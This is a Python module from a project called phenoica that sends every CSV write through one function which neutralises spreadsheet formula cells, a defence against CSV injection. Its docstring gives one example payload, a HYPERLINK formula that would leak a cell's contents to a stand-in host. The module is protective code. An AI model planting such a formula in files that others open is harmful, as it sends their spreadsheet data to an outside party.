"""The one CSV writer: every CSV table phenoica writes goes through :func:`write_csv`.

A CSV file is most often opened in a spreadsheet, which reads a cell that starts with ``=``,
``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula: a gene named
``=HYPERLINK("http://x/?leak="&A1,"click")`` would run in the reader's spreadsheet (CSV or formula
injection). :func:`spreadsheet_safe` writes such a text cell with a leading ``'``, which
spreadsheets read as "this cell is text" and show without it. Numbers stay numbers: numeric
columns are left as they are, and so is a text cell that is a plain number (``-1.5``, ``+3e2``),
which no spreadsheet reads as a formula. The Parquet tables and the pages keep names as they are.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pandas as pd

from phenoica.utils._io import atomic_path

#: The first characters that make a spreadsheet read a cell as a formula (or, tab and carriage
#: return, that some spreadsheets skip before reading one).
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
#: What a neutralised cell starts with.
TEXT_MARK = "'"
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def is_formula_like(value: Any) -> bool:
    """Whether ``value`` is text a spreadsheet would read as a formula: a string starting with
    one of :data:`FORMULA_STARTS` that is not a plain number."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)


def spreadsheet_text(value: Any) -> Any:
    """``value`` with :data:`TEXT_MARK` before it when :func:`is_formula_like`, else unchanged."""
    return TEXT_MARK + value if is_formula_like(value) else value


def spreadsheet_safe(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with every formula-like text cell (:func:`is_formula_like`) and column name
    neutralised (:func:`spreadsheet_text`); numeric and boolean columns unchanged. A copy when
    anything changes, ``df`` itself otherwise."""
    changed = {}
    for i, (name, column) in enumerate(df.items()):
        if pd.api.types.is_numeric_dtype(column.dtype) and not isinstance(column.dtype, pd.CategoricalDtype):
            continue
        text = column.astype(object)
        flagged = text.map(is_formula_like)
        if flagged.any():
            changed[i] = text.where(~flagged, TEXT_MARK + text[flagged].astype(str))
    names = [spreadsheet_text(str(c)) if isinstance(c, str) else c for c in df.columns]
    if not changed and names == list(df.columns):
        return df
    out = df.copy()
    for i, column in changed.items():
        out.isetitem(i, column)
    out.columns = names
    return out


def write_csv(df: pd.DataFrame, path: Path | str) -> Path:
    """Write ``df`` as CSV (no index) at ``path`` atomically, its formula-like text cells
    neutralised (:func:`spreadsheet_safe`): the one way phenoica writes a CSV file."""
    path = Path(path)
    with atomic_path(path) as tmp:
        spreadsheet_safe(df).to_csv(tmp, index=False)
    return path
